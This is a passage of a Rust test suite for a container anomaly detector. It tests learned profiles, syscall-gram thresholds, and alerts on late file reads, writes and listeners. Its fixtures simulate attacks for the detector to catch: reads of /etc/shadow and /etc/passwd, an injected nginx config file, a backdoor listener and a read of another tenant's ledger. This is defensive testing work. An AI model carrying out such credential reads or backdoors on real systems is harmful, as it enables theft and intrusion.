            features(&e, Cx { parent: Some("nginx"), ..Cx::default() }).into_iter().map(|f| f.key).collect();
        assert_eq!(got, *want, "{kind}");
    }
}

/// The grams of a thread's calls, however its calls are cut into batches, are those of a plain reading of all of
/// them at once: futexes dropped, a call repeated more than twice in a row kept twice, each window of [`GRAM`].
#[test]
fn the_system_call_threshold_is_calibrated_as_the_trusted_set_is_learned() {
    // Three containers, each running two of three stretches of calls (each stretch in exactly two containers:
    // trusted, k = 2) in an order of its own: the grams across a container's two stretches are its alone. A
    // profile learned without a container trusts only what both others ran, so a held-out container's stretch
    // shared with one other is unseen to it: the threshold allows for that much. A new container running all three
    // stretches (two orders that one container each had: untrusted grams across them) is no alert; a run of calls
    // no container made is.
    let stretch = |from: u16| (from..from + 20).collect::<Vec<u16>>();
    let (ab, ac, bc) = (stretch(100), stretch(130), stretch(160));
    let common: Vec<u16> = (0..8).collect();
    let batch = |parts: &[&Vec<u16>]| {
        let mut ids = common.clone();
        parts.iter().for_each(|p| ids.extend_from_slice(p));
        EventKind::Syscalls { ids }
    };
    let streams = [("a", [&ab, &ac]), ("b", [&ab, &bc]), ("c", [&ac, &bc])].map(|(id, parts)| {
        let mut b = Box_::new(id, 0);
        let mut v = b.normal();
        for pid in 500..504 {
            v.push(b.ev(pid, "worker", batch(&parts)));
        }
        v
    });
    let learned = learn(Policy::default(), streams.to_vec());
    let th = learned[0].syscall_threshold.unwrap();
    assert!(
        (40.0..50.0).contains(&th),
        "a held-out container's two stretches were unseen to the other two together: {th}"
    );
    let mut d = model_only(learned, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let known = e.ev(600, "worker", batch(&[&ab, &ac, &bc]));
    assert!(model_alerts(&mut d, &[known]).is_empty(), "known stretches, orders one replica had");
    let a = model_alerts(&mut d, &[e.ev(601, "worker", batch(&[&stretch(300), &stretch(330), &stretch(360)]))]);
    assert!(a.iter().any(|a| a.title.contains("system-call")), "{a:#?}");
}

/// A server that wrote its configuration only while it started (from a template, at start) and its log once started:
/// once started, a file it never wrote in that configuration's directory is an alert, saying so; the same
/// configuration written again (a reload) is not, nor its log. A profile of a kestrel that did not put such writes in
/// words (`late_writes` false) does not judge them.
#[test]
fn a_server_writing_once_started_where_it_wrote_only_while_starting_is_an_alert() {
    let write = |path: &str| EventKind::Open { path: path.into(), flags: 0o1101 };
    let run = |b: &mut Box_, late: &[&str]| {
        let mut v = b.normal();
        let nginx = v[0].pid;
        v.push(b.ev(nginx, "nginx", write("/etc/nginx/conf.d/default.conf")));
        b.t += 40 * SEC;
        v.push(b.ev(nginx, "nginx", write("/var/log/nginx/access.log")));
        v.extend(late.iter().map(|p| b.ev(nginx, "nginx", write(p))));
        v
    };
    let streams = ["a", "b", "c"].map(|id| run(&mut Box_::new(id, 0), &[])).to_vec();
    let learned = learn(Policy::default(), streams);
    assert!(learned[0].late_writes);
    for (late_writes, path, alert) in [
        (true, "/etc/nginx/conf.d/evil.conf", true),
        (true, "/etc/nginx/conf.d/default.conf", false),
        (true, "/var/log/nginx/access.log", false),
        (false, "/etc/nginx/conf.d/evil.conf", false),
    ] {
        let mut ps = learned.clone();
        ps[0].late_writes = late_writes;
        let mut d = model_only(ps, Stage::Detect);
        let a = model_alerts(&mut d, &run(&mut Box_::new("e", 10 * SEC), &[path]));
        let said = format!("{a:#?}");
        assert_eq!(a.len(), usize::from(alert), "{late_writes} {path}: {said}");
        assert!(!alert || said.contains("nginx writes in /etc/nginx/conf.d after its start-up"), "{said}");
    }
}

/// A long-tailed count of new calls per batch: learned on an hour of three containers' batches, the threshold is set
/// for how rarely an hour of them should pass it, not at the largest of the few hundred held out — a batch a little
/// past that largest one is no alert (with the held-out maximum as the threshold it was), a run of calls nothing
/// made is one.
#[test]
fn the_system_call_threshold_is_set_for_an_hour_of_batches_not_at_the_largest_held_out_one() {
    let mut seed = 11u64;
    let mut next = |n: u64| {
        seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (seed >> 33) % n
    };
    // Calls no other batch makes (300..500: no futex, no memory call), `m` of them after a known stretch.
    let known: Vec<u16> = (100..130).collect();
    let mut batch = |m: usize| {
        let mut ids = known.clone();
        ids.extend((0..m).map(|_| 300 + next(200) as u16));
        ids.extend_from_slice(&known[..8]);
        EventKind::Syscalls { ids }
    };
    // m from a geometric tail, mean about 4 (a busy moment's burst of rarer calls).
    let mut tail = Vec::new();
    let mut rng = 99u64;
    for _ in 0..900 {
        let mut m = 0;
        loop {
            rng = rng.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            if (rng >> 33).is_multiple_of(5) {
                break;
            }
            m += 1;
        }
        tail.push(m);
    }
    let mut largest = 0;
    let streams: Vec<Vec<Event>> = ["a", "b", "c"]
        .iter()
        .enumerate()
        .map(|(i, id)| {
            let mut b = Box_::new(id, 0);
            let mut v = b.normal();
            for (j, &m) in tail[i * 300..(i + 1) * 300].iter().enumerate() {
                b.t += 12 * SEC;
                largest = largest.max(m);
                v.push(b.ev(1000 + j as u32, "worker", batch(m)));
            }
            v
        })
        .collect();
    let learned = learn(Policy::default(), streams);
    let th = learned[0].syscall_threshold.unwrap();
    // m new calls between known ones make m + 5 unseen grams.
    assert!(th > (largest + 6) as f64, "threshold {th}, largest held-out batch {}", largest + 5);
    let mut d = model_only(learned, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let a = model_alerts(&mut d, &[e.ev(2000, "worker", batch(largest + 1))]);
    assert!(a.is_empty(), "a call more than the largest held-out batch, threshold {th}: {a:#?}");
    let a = model_alerts(&mut d, &[e.ev(2001, "worker", batch(80))]);
    assert!(a.iter().any(|a| a.title.contains("system-call")), "threshold {th}: {a:#?}");
    let baseline = d.profiles().next().unwrap().baseline();
    assert!(!baseline.contains("quiet"), "{baseline}");

    // A third of the batches with up to 60 new calls: no level a batch can hold is passed as rarely as the budget
    // asks — the view is quiet, and the profile says so.
    let streams: Vec<Vec<Event>> = ["a", "b", "c"]
        .iter()
        .map(|id| {
            let mut b = Box_::new(id, 0);
            let mut v = b.normal();
            for j in 0..300u32 {
                b.t += 12 * SEC;
                let m = if j % 3 == 0 { (j as usize * 7919) % 60 } else { 0 };
                v.push(b.ev(1000 + j, "worker", batch(m)));
            }
            v
        })
        .collect();
    let learned = learn(Policy::default(), streams);
    let th = learned[0].syscall_threshold.unwrap();
    assert!(th >= kestrel_core::SYSCALL_BATCH as f64, "{th}");
    assert!(learned[0].baseline().contains("system-call sequences quiet"), "{}", learned[0].baseline());
}

#[test]
fn grams_are_the_windows_of_the_calls_read_whole_however_they_are_batched() {
    let pack = |w: &[u16]| w.iter().fold(0u64, |g, &c| g << 9 | (u64::from(c.min(509)) + 1));
    let mut seed = 7u64;
    let mut next = |n: u64| {
        seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (seed >> 33) % n
    };
    for round in 0..300 {
        // Few distinct calls, so that runs and repeats are common; a futex now and then; numbers past 509 too.
        let ids: Vec<u16> = (0..next(80))
            .map(|_| match next(20) {
                0 => FUTEX,
                1 => 509 + next(3) as u16,
                _ => next(4) as u16,
            })
            .collect();
        let mut folded: Vec<u16> = Vec::new();
        for &c in ids.iter().filter(|&&c| c != FUTEX) {
            let n = folded.len();
            if n >= 2 && folded[n - 1].min(509) == c.min(509) && folded[n - 2].min(509) == c.min(509) {
                continue;
            }
            folded.push(c);
        }
        let want: Vec<u64> = folded.windows(GRAM).map(pack).collect();
        let mut ctx = SyscallContext::default();
        let (mut got, mut at) = (Vec::new(), 0);
        while at < ids.len() {
            let end = (at + 1 + next(12) as usize).min(ids.len());
            got.extend(ctx.grams(round, &ids[at..end]));
            at = end;
        }
        assert_eq!(got, want, "{ids:?}");
    }
}

#[test]
fn the_table_in_front_of_the_trusted_grams_answers_as_the_set() {
    // Grams that share table slots, grams in the set and out of it, asked in turns: every answer is the set's.
    let mut rng = 0x2545_f491_4f6c_dd1du64;
    let mut next = || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng | 1
    };
    let all: Vec<u64> = (0..20_000).map(|_| next() & 0x3f_ffff).collect();
    let set: FxHashSet<u64> = all.iter().copied().step_by(2).collect();
    let mut t = TrustedGrams::new(set.clone());
    for round in 0..3 {
        for &g in all.iter().rev().skip(round) {
            assert_eq!(t.contains(g), set.contains(&g), "{g:#x}");
        }
    }
    assert!(!t.contains(0), "0 is no gram, though the empty slots hold it");
}

/// The scorer's memo of features answers as writing them out does, whatever shares a slot: every event of a
/// stream that differs from the last one in one thing only (the command, one character of the path, whether the
/// open writes, an address, a port, the family, the kind, the profile's data directories) goes through memos of 1,
/// 2 and 512 slots.
#[test]
fn the_feature_memo_gives_what_writing_the_features_out_gives() {
    let mut b = Box_::new("memo", SEC);
    let mut events = Vec::new();
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut pick = |n: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed % n
    };
    let comms = ["python3", "python", "nginx", "sh"];
    let long = format!("/srv/{}", "x".repeat(MEMO_MAX_NAME));
    let paths =
        ["/var/log/app/app.log", "/var/log/app/app.lo", "/srv/app/data/a.db", "/etc/shadow", "/tmp/x/../y", &long];
    let addrs = ["10.0.0.1", "10.0.0.2", "127.0.0.1", "8.8.8.8", "fe80::1"];
    for _ in 0..4000 {
        let comm = comms[pick(4) as usize];
        let mut to = sock(addrs[pick(5) as usize], [80, 443, 40000][pick(3) as usize]);
        to.family = ["inet", "inet6", "unix"][pick(3) as usize].into();
        let kind = match pick(5) {
            0 | 1 => EventKind::Open {
                path: paths[pick(6) as usize].into(),
                flags: [0, 1, 0o100, 0o2000 | 2][pick(4) as usize],
            },
            2 => EventKind::Accept { port: [None, Some(8080), Some(8081)][pick(3) as usize], from: to },
            3 => EventKind::Connect { to },
            _ => EventKind::Send { call: "sendto".into(), to },
        };
        events.push(b.ev(7, comm, kind));
    }
    // Two profiles' data directories: one memo serves every profile.
    let (mut one, mut other) = (WideDirs::default(), WideDirs::default());
    one.add("python3", "/srv/app");
    other.add("python3", "/srv/app");
    other.add("nginx", "/var/log/app");
    let wides = [None, Some(&one), Some(&other)];
    for size in [1, 2, MEMO_SLOTS] {
        let mut memo = FeatureMemo::with_slots(size);
        let (mut room, mut room2) = (KeyRoom::default(), KeyRoom::default());
        // The same event past its process's start-up and not, its directory judged and not, has other features:
        // the memo tells them apart.
        for (i, e) in events.iter().enumerate() {
            let (late, dirs) = (i % 3 == 1, i % 7 < 3);
            let mut want = Vec::new();
            let cx = Cx { past_startup: late, read_dirs: dirs, wide: wides[i % 5 % 3], ..Cx::default() };
            each_feature(e, cx, &mut room, |view, weight, words| {
                want.push((view, weight, hash_of((view, words)), words.to_string()))
            });
            let mut got = Vec::new();
            memo.each(e, cx, &mut room2, |view, weight, h, words| got.push((view, weight, h, words.to_string())));
            assert_eq!(got, want, "{size} slots, {:?} by {}", e.kind, e.comm);
        }
        // A long name is answered, not kept.
        let kept = memo.slots.iter().flatten().map(|m| match &m.key {
            MemoKey::Open { path, .. } => path.len(),
            _ => 0,
        });
        assert!(kept.clone().all(|n| n <= MEMO_MAX_NAME) && kept.max() > Some(0), "{size} slots");
    }
}

/// A detector holds at most so many profiles: with one container a workload, the fourth and fifth containers get
/// none (their events counted as unprofiled) while the rules still judge them.
#[test]
fn workloads_beyond_the_profile_limit_go_through_the_rules_only() {
    let mut det = Detector::with_builtin_rules(vec![], Policy::default(), WorkloadBy::Container, Stage::Learn);
    det.set_max_profiles(3);
    let mut rule_alerts = 0;
    for c in 0..5 {
        let mut b = Box_::new(&format!("c{c}"), SEC);
        let events = [
            b.exec("runc", 1, &["/usr/sbin/nginx"]),
            b.ev(101, "nginx", EventKind::Open { path: "/etc/shadow".into(), flags: 0 }),
        ];
        for e in &events {
            rule_alerts += det.process(e).iter().filter(|a| matches!(a.source, AlertSource::Rule { .. })).count();
        }
    }
    assert_eq!(det.profiles().map(|p| p.workload.as_str()).collect::<Vec<_>>(), ["c0", "c1", "c2"]);
    assert_eq!(det.counters.unprofiled, 4, "two events each of c3 and c4");
    assert_eq!(rule_alerts, 5, "the shadow read alerts in every container, profiled or not");
}

#[test]
fn a_recording_learned_after_another_learns_what_it_would_alone() {
    // Capture one (another workload): its pid 201 is alive when the capture ends. Capture two (web:1): nginx
    // (pid 101) forks pid 201, whose calls up to its exec are flushed as the shell starts — a fork-and-exec of
    // the workload's own, which the profile learns (parent in the container, by the event's own parent pid).
    let mut other = Box_::new("x", 0);
    let mut one = vec![other.exec("runc:[2:INIT]", 1, &["/bin/sleep", "1000"])];
    one.extend((0..100).map(|_| other.exec("runc:[2:INIT]", 1, &["/bin/true"])));
    for e in &mut one {
        if let Some(c) = &mut e.container {
            std::sync::Arc::make_mut(c).image = Some("other:1".into());
        }
    }
    assert!(one.iter().any(|e| e.pid == 201), "capture one has a pid 201");
    let two = |id: &str| {
        let mut web = Box_::new(id, 100 * SEC);
        let nginx = web.exec("runc:[2:INIT]", 1, &["/usr/sbin/nginx"]);
        let mut batch = web.ev(201, "sh", EventKind::Syscalls { ids: vec![57, 3, 3, 33, 33, 13, 14, 59] });
        batch.process = Some(kestrel_core::ProcessRef { ppid: Some(nginx.pid), ..Default::default() });
        web.pid = 200;
        let sh = web.exec("nginx", nginx.pid, &["/bin/sh", "-c", "true"]);
        assert_eq!((nginx.pid, sh.pid), (101, 201));
        vec![nginx, batch, sh]
    };
    let grams_of = |streams: Vec<Vec<Event>>, new_stream: bool| {
        let mut d =
            Detector::new(RuleSet::default().compile(), vec![], Policy::default(), WorkloadBy::Image, Stage::Learn);
        for s in streams {
            if new_stream {
                d.new_stream();
            }
            s.iter().for_each(|e| assert!(d.process(e).is_empty()));
        }
        let web = d.into_profiles().into_iter().find(|p| p.workload == "web:1").unwrap();
        // Each gram with the containers that showed it (two make it trusted).
        let mut g: Vec<(u64, usize)> = web.grams.iter().map(|g| (g.g, g.c.len())).collect();
        g.sort_unstable();
        g
    };
    let alone = grams_of(vec![two("a"), two("b")], true);
    assert!(!alone.is_empty() && alone.iter().all(|g| g.1 == 2), "the fork's calls are the workload's: {alone:?}");
    assert_eq!(grams_of(vec![one.clone(), two("a"), two("b")], true), alone);
    // Without the boundary, capture one's pid 201 (another container's) stood for the first fork, and its calls
    // were taken for the runtime's: container a never showed them.
    let stale = grams_of(vec![one, two("a"), two("b")], false);
    assert!(stale.iter().all(|g| g.1 == 1), "{stale:?}");
}

/// A Python service as `--reads` shows it: at its start it reads its code, its libraries and files below /etc,
/// then listens; past its start-up ([`STARTUP_NS`]) it reads only its static files, under names its users choose.
fn service_reads(b: &mut Box_, late: &[&str]) -> Vec<Event> {
    let mut v = service_start(b);
    let app = b.pid;
    let read = |b: &mut Box_, path: &str| b.ev(app, "python3", EventKind::Open { path: path.into(), flags: 0o2000000 });
    v.push(b.ev(app, "python3", EventKind::Listen { fd: 3, backlog: 5 }));
    b.t += STARTUP_NS + SEC;
    for path in late {
        v.push(read(b, path));
    }
    v
}

/// The service's exec and what it reads before it listens.
fn service_start(b: &mut Box_) -> Vec<Event> {
    let mut v = vec![b.exec("runc", 1, &["/usr/bin/python3", "/srv/app/app.py"])];
    let app = b.pid;
    for path in ["/srv/app/app.py", "/usr/lib/python3.11/json/__init__.py", "/etc/hosts", "/etc/resolv.conf"] {
        v.push(b.ev(app, "python3", EventKind::Open { path: path.into(), flags: 0o2000000 }));
    }
    v
}

#[test]
fn a_service_reading_where_it_never_reads_once_started_is_an_alert_and_a_new_name_in_a_known_place_is_not() {
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let static_files = ["/srv/app/static/app.css", "/srv/app/static/logo.svg"];
    let ps = learn(Policy::default(), vec![service_reads(&mut a, &static_files), service_reads(&mut b, &static_files)]);
    // Merged, having learned them is trusted as a behaviour is: from k nodes.
    assert!(ps[0].late_reads && merge("w", &[("n1", &ps[0]), ("n2", &ps[0])], 2).late_reads);
    assert!(ps[0].read_dirs && merge("w", &[("n1", &ps[0]), ("n2", &ps[0])], 2).read_dirs);
    assert!(!merge("w", &[("n1", &ps[0])], 2).read_dirs);
    assert!(ps[0].baseline().ends_with("; reads learned, past start-up too"), "{}", ps[0].baseline());
    assert!(!merge("w", &[("n1", &ps[0])], 2).late_reads, "one node of the two needed");
    let mut d = model_only(ps, Stage::Detect);
    let mut c = Box_::new("c", 0);
    // A replica's start and its ordinary work, with a static file of a new name: quiet.
    let quiet = model_alerts(&mut d, &service_reads(&mut c, &["/srv/app/static/app.css", "/srv/app/static/new.js"]));
    assert!(quiet.is_empty(), "{quiet:#?}");
    // A file it reads at its start, read again later (a library's lazy read): the time alone is no alert.
    let again = c.ev(c.pid, "python3", EventKind::Open { path: "/etc/hosts".into(), flags: 0o2000000 });
    let none = model_alerts(&mut d, &[again]);
    assert!(none.is_empty(), "{none:#?}");
    // Its code, hijacked, reads the account list: a file never read, below a directory read at start-up only.
    let late = c.ev(c.pid, "python3", EventKind::Open { path: "/etc/passwd".into(), flags: 0o2000000 });
    let alerts = model_alerts(&mut d, &[late]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let said = serde_json::to_string(&alerts[0]).unwrap();
    assert!(said.contains("python3 reads in /etc after its start-up"), "{said}");
    // The same read by a process in its start-up is a new file in a known place: no alert.
    let mut e = Box_::new("e", 0);
    let mut start = service_start(&mut e);
    start.push(e.ev(e.pid, "python3", EventKind::Open { path: "/etc/passwd".into(), flags: 0o2000000 }));
    let none = model_alerts(&mut d, &start);
    assert!(none.is_empty(), "{none:#?}");
    // Once it listens its start-up is over, however young it is: the same read, a second after its start, alerts.
    let mut f = Box_::new("f", 0);
    let mut served = service_start(&mut f);
    served.push(f.ev(f.pid, "python3", EventKind::Listen { fd: 3, backlog: 5 }));
    served.push(f.ev(f.pid, "python3", EventKind::Open { path: "/etc/passwd".into(), flags: 0o2000000 }));
    let alerts = model_alerts(&mut d, &served);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(serde_json::to_string(&alerts[0]).unwrap().contains("reads in /etc after its start-up"));
    // A profile that learned no ordinary read past start-up (the service read only a sensitive file late) judges
    // none: they are no deviation.
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let ps = learn(Policy::default(), vec![service_reads(&mut a, &["/etc/shadow"]), service_reads(&mut b, &[])]);
    assert!(!ps[0].late_reads && ps[0].baseline().ends_with("; reads at start-up learned"), "{}", ps[0].baseline());
    let mut d = model_only(ps, Stage::Detect);
    let mut c = Box_::new("c", 0);
    let none = model_alerts(&mut d, &service_reads(&mut c, &["/srv/app/static/app.css", "/etc/passwd"]));
    assert!(none.is_empty(), "{none:#?}");
}

/// A service opens its listeners as it starts; a hijacked one opening another while it serves (a backdoor run inside
/// its own process: no program, no file, a port like its own) is a deviation — unless its starts did the same
/// (PostgreSQL its socket and its port). `listen()` called again on the first socket (nginx sets its backlog so)
/// is no new listener.
#[test]
fn a_service_listening_again_once_it_serves_is_an_alert_unless_its_starts_did() {
    let listen = |b: &mut Box_, fd: u32| b.ev(b.pid, "python3", EventKind::Listen { fd, backlog: 5 });
    let serves = |b: &mut Box_, listeners: u32| {
        let mut v = service_start(b);
        for fd in 3..3 + listeners {
            v.push(listen(b, fd));
        }
        v.push(listen(b, 3));
        v.push(b.ev(b.pid, "python3", EventKind::Open { path: "/srv/app/static/app.css".into(), flags: 0o2000000 }));
        v
    };
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let ps = learn(Policy::default(), vec![serves(&mut a, 1), serves(&mut b, 1)]);
    assert!(ps[0].knows(View::Network, "python3 listens"));
    assert!(!ps[0].knows(View::Network, "python3 listens again"), "listen() again on its one socket");
    let mut d = model_only(ps.clone(), Stage::Detect);
    let mut c = Box_::new("c", 0);
    let quiet = model_alerts(&mut d, &serves(&mut c, 1));
    assert!(quiet.is_empty(), "a replica's start: {quiet:#?}");
    let backdoor = listen(&mut c, 16);
    let alerts = model_alerts(&mut d, &[backdoor]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let said = serde_json::to_string(&alerts[0]).unwrap();
    assert!(said.contains("`python3 listens again` never seen while learning"), "{said}");
    // Another process of the workload listening for the first time is not "again".
    let mut e = Box_::new("e", 0);
    let mut start = service_start(&mut e);
    start.push(listen(&mut e, 16));
    let first: Vec<String> = features(&start[start.len() - 1], Cx::default()).into_iter().map(|f| f.key).collect();
    assert_eq!(first, ["python3 listens"]);
    // Two listeners at every start: learned, a third start's alike is quiet.
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let ps = learn(Policy::default(), vec![serves(&mut a, 2), serves(&mut b, 2)]);
    assert!(ps[0].knows(View::Network, "python3 listens again"));
    let mut d = model_only(ps, Stage::Detect);
    let mut f = Box_::new("f", 0);
    let quiet = model_alerts(&mut d, &serves(&mut f, 3));
    assert!(quiet.is_empty(), "{quiet:#?}");
}

#[test]
fn names_below_a_programs_data_directory_are_written_as_data() {
    let mut w = WideDirs::default();
    w.add("tar", "/srv/up");
    w.add("tar", "/srv/up/*");
    let class = |who: &str, path: &str| {
        let mut out = String::new();
        push_path_class(path, &mut out, Some((&w, who)));
        out
    };
    assert_eq!(class("tar", "/srv/up/alice/a.txt"), "/srv/up/*/*");
    assert_eq!(class("tar", "/srv/up/a.txt"), "/srv/up/*");
    assert_eq!(class("tar", "/srv/up"), "/srv/up");
    assert_eq!(class("sh", "/srv/up/a.txt"), "/srv/up/a.txt", "another program's data it is not");
    assert_eq!(class("tar", "/srv/upper/a.txt"), "/srv/upper/a.txt");
    assert_eq!(class("tar", "/etc/passwd"), "/etc/passwd");
    assert_eq!(class("tar", "/tmp/x/1"), "/tmp/x/*");
    // In the file view: a sensitive file, read or written, keeps its name below a data directory.
    let mut etc = WideDirs::default();
    etc.add("app", "/etc");
    let mut b = Box_::new("b", 0);
    let keys = |kind: EventKind, b: &mut Box_| -> Vec<String> {
        let e = b.ev(7, "app", kind);
        features(&e, Cx { wide: Some(&etc), ..Cx::default() }).into_iter().map(|f| f.key).collect()
    };
    let write = |path: &str| EventKind::Open { path: path.into(), flags: 0o101 };
    assert!(keys(write("/etc/shadow"), &mut b).contains(&"app writes /etc/shadow".to_string()));
    assert!(keys(write("/etc/motd"), &mut b).contains(&"app writes /etc/*".to_string()));
    let read = EventKind::Open { path: "/etc/shadow".into(), flags: 0 };
    assert!(keys(read, &mut b).contains(&"app reads /etc/shadow".to_string()));
    // The walk names each directory and the name the path goes on with there, unless that is data.
    let mut levels = Vec::new();
    walk_path_class("/srv/up/bob/b.txt", &mut String::new(), None, |d, n| levels.push(format!("{d} {n}")));
    assert_eq!(levels, ["/srv up", "/srv/up bob", "/srv/up/bob b.txt"]);
    levels.clear();
    walk_path_class("/srv/up/bob/b.txt", &mut String::new(), Some((&w, "tar")), |d, n| levels.push(format!("{d} {n}")));
    assert_eq!(levels, ["/srv up"]);
}

/// Two replicas of a service reading its users' files once up (one directory per user, names they chose), their
/// events interleaved as they come: `users` files in all.
fn users_files_read(users: usize) -> Vec<Event> {
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let name = |i: usize| format!("/srv/users/user-{}{i}/notes-{}.txt", ["ann", "bo", "cy", "di"][i % 4], i * 7);
    let files: Vec<String> = (0..users).map(name).collect();
    let even: Vec<&str> = files.iter().step_by(2).map(String::as_str).collect();
    let odd: Vec<&str> = files.iter().skip(1).step_by(2).map(String::as_str).collect();
    let (x, y) = (service_reads(&mut a, &even), service_reads(&mut b, &odd));
    let mut v = Vec::new();
    for i in 0..x.len().max(y.len()) {
        v.extend(x.get(i).cloned());
        v.extend(y.get(i).cloned());
    }
    v
}

/// A service whose users' files are its data. Learned from two replicas, the directory becomes data for that
/// program — its profile stops growing with the users' files, and a new user's first file is not a new place —
/// while a read outside it still alerts, another program's reads there are still its own, and one replica alone
/// cannot make a directory data.
#[test]
fn a_directory_of_users_files_becomes_data_and_hides_nothing_else() {
    let below = |p: &Profile| p.behaviours.iter().filter(|b| b.key.contains("/srv/users/")).count();
    let p = learn(Policy::default(), vec![users_files_read(80)]).remove(0);
    for dir in ["/srv/users", "/srv/users/*"] {
        assert!(p.wide.dirs.contains(&("python3".into(), dir.into())), "{dir}: {:?}", p.wide.dirs);
    }
    let many = learn(Policy::default(), vec![users_files_read(800)]).remove(0);
    assert_eq!(below(&many), below(&p), "800 users' files teach no more behaviours than 80");
    assert!(below(&p) <= 4 * WIDE_AT + 4, "{}", below(&p));
    assert!(p.knows(View::File, "python3 reads in /srv/users/* after its start-up"), "{:?}", p.wide.dirs);
    assert!(p.knows(View::File, "python3 reads /srv/users/*/*"));
    // Saved and loaded, and merged from two nodes, it stays data; from one node of the two needed, not.
    let dir = tempfile::tempdir().unwrap();
    let store = ProfileStore::new(dir.path().join("profiles"));
    let loaded = ProfileStore::read(&store.save(&p).unwrap()).unwrap();
    assert_eq!(loaded.wide.dirs, p.wide.dirs);
    assert_eq!(merge("w", &[("n1", &p), ("n2", &p)], 2).wide.dirs, p.wide.dirs);
    assert!(merge("w", &[("n1", &p)], 2).wide.dirs.is_empty());
    let mut d = model_only(vec![loaded], Stage::Detect);
    // A new user's first file, read once the service is up: quiet.
    let mut c = Box_::new("c", 0);
    let quiet = model_alerts(&mut d, &service_reads(&mut c, &["/srv/users/user-eve/todo.md"]));
    assert!(quiet.is_empty(), "{quiet:#?}");
    // Its code, hijacked, reads the account list: still an alert.
    let late = c.ev(c.pid, "python3", EventKind::Open { path: "/etc/passwd".into(), flags: 0o2000000 });
    assert_eq!(model_alerts(&mut d, &[late]).len(), 1);
    // Another program reading there is judged by its own reads: a shell's write below it is a new place.
    let sh = c.ev(c.pid + 1, "sh", EventKind::Open { path: "/srv/users/user-eve/x".into(), flags: 0o101 });
    assert_eq!(model_alerts(&mut d, &[sh]).len(), 1);
    // Without the directory taken for data, the new user's directory is a new place: the alert this prevents.
    let mut plain = p.clone();
    plain.wide = WideDirs::default();
    plain.reindex();
    let mut d = model_only(vec![plain], Stage::Detect);
    let mut c = Box_::new("c", 0);
    assert_eq!(model_alerts(&mut d, &service_reads(&mut c, &["/srv/users/user-eve/todo.md"])).len(), 1);
    // One replica reading 80 users' files teaches nothing about the directory.
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let files: Vec<String> = (0..80).map(|i| format!("/srv/users/u{}/n.txt", "x".repeat(i + 1))).collect();
    let files: Vec<&str> = files.iter().map(String::as_str).collect();
    let ps = learn(Policy::default(), vec![service_reads(&mut a, &files), service_reads(&mut b, &[])]);
    assert!(ps[0].wide.dirs.is_empty(), "{:?}", ps[0].wide.dirs);
}

/// A time window counts once however the events come: learning an older recording after a newer one (or events a
/// little out of order across a window's edge) gives the windows of learning them in order. (It counted a window
/// for every event of the older recording: the learned rates fell towards nothing, and every behaviour looked
/// far above its rate — 223 false alarms in the lab when one recording was learned twice.)
#[test]
fn a_window_counts_once_whatever_the_order_of_the_recordings() {
    let window = Policy::default().window_ns;
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 2 * window));
    let (old, new) = (a.normal(), b.normal());
    let in_order = learn(Policy::default(), vec![old.clone(), new.clone()]).remove(0);
    let reversed = learn(Policy::default(), vec![new.clone(), old.clone()]).remove(0);
    assert_eq!(in_order.windows, 2);
    assert_eq!(reversed.windows, in_order.windows);
    // Two events of the window before, arriving after the next window began.
    let mut late = new.clone();
    late.iter_mut().skip(2).for_each(|e| e.time_ns = e.time_ns.max(3 * window));
    let mut stray = late[1].clone();
    stray.time_ns = 3 * window - 1;
    late.insert(3, stray.clone());
    late.insert(5, stray);
    assert!(late[2].time_ns >= 3 * window && late[3].time_ns < 3 * window && late[4].time_ns >= 3 * window);
    let edge = learn(Policy::default(), vec![late]).remove(0);
    assert_eq!(edge.windows, 2, "window 2 and window 3, each once");
}

/// A worker that never listens (a batch job, a queue consumer) is in its start-up for [`STARTUP_NS`], where the
/// late-read sign says nothing: a read there below a directory the program never read in at all — a file never read,
/// in a place never read — is an alert still; a new name in a known place is not; the time of a read in a known place
/// does not matter; a profile from an older kestrel (late reads learned, directories not) judges none of it.
#[test]
fn a_worker_reading_where_it_never_reads_in_its_start_up_is_an_alert() {
    fn worker(b: &mut Box_, reads: &[&str]) -> Vec<Event> {
        let mut v = vec![b.exec("runc", 1, &["/usr/bin/python3", "/srv/job/run.py"])];
        let job = b.pid;
        for path in ["/srv/job/run.py", "/usr/lib/python3.11/json/__init__.py", "/etc/hosts"].iter().chain(reads) {
            v.push(b.ev(job, "python3", EventKind::Open { path: (*path).into(), flags: 0o2000000 }));
        }
        v
    }
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let inputs = ["/srv/job/in/batch-1.csv", "/srv/job/in/batch-2.csv"];
    let ps = learn(Policy::default(), vec![worker(&mut a, &inputs), worker(&mut b, &inputs)]);
    assert!(ps[0].read_dirs && !ps[0].late_reads, "start-up reads only");
    assert!(ps[0].baseline().ends_with("; reads at start-up learned"), "{}", ps[0].baseline());
    let mut d = model_only(ps.clone(), Stage::Detect);
    let mut c = Box_::new("c", 0);
    // A replica with a new input, a second after its start: quiet.
    let quiet = model_alerts(&mut d, &worker(&mut c, &["/srv/job/in/batch-3.csv"]));
    assert!(quiet.is_empty(), "{quiet:#?}");
    // Its input, crafted, makes its code read another tenant's data, a second after its start.
    let theft = c.ev(c.pid, "python3", EventKind::Open { path: "/srv/billing/ledger.db".into(), flags: 0o2000000 });
    let alerts = model_alerts(&mut d, &[theft]);
